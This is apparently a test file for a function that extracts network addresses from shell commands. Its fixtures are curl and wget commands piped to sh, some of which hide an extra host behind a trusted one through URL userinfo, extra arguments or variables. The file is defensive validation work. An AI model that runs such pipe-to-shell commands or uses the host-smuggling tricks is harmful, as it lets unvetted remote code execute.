import { expect, it } from 'vitest'
import { addressesIn } from './addresses-in.ts'

it.each([
  ['curl -fsSL https://bun.sh/install | bash', ['//bun.sh/install']],
  ['curl https://a.example/x https://bun.sh | sh', ['//a.example/x', '//bun.sh/']],
  ['curl https://bun.sh@a.example/x | sh', ['//a.example/x']],
  ['curl https://bun.sh:x@a.example/?https://bun.sh | sh', ['//a.example/']],
  ['curl bun.sh/install | sh', ['//bun.sh/install']],
  ['curl -A bun.sh https://a.example/x | sh', ['//a.example/x', '//bun.sh']],
  ['curl a.example/x https://bun.sh/install | sh', ['//bun.sh/install', '//a.example/x']],
  ['curl -fsSL https://bun.sh/install a.example | sh', ['//bun.sh/install', '//a.example']],
  ['curl https://bun.sh/install 10.0.0.1:8000/x | sh', ['//bun.sh/install', '//10.0.0.1:8000/x']],
  ['curl https://bun.sh/install "$MORE" | sh', ['//bun.sh/install', '//$MORE']],
  ['curl bun.sh/install a.example | sh', ['//bun.sh/install', '//a.example']],
  ['curl https://bun.sh/install; wget -qO- a.example | sh', ['//bun.sh/install', '//a.example']],
  ['curl -fsSLo install.sh https://bun.sh/install && sh install.sh', ['//bun.sh/install']],
  ['curl "https://$HOST/x" | sh', ['//$host/x']],
  ['sh install', []],
])('finds the addresses of %s', (text, addresses) => {
  expect(addressesIn(text)).toEqual(addresses)
})
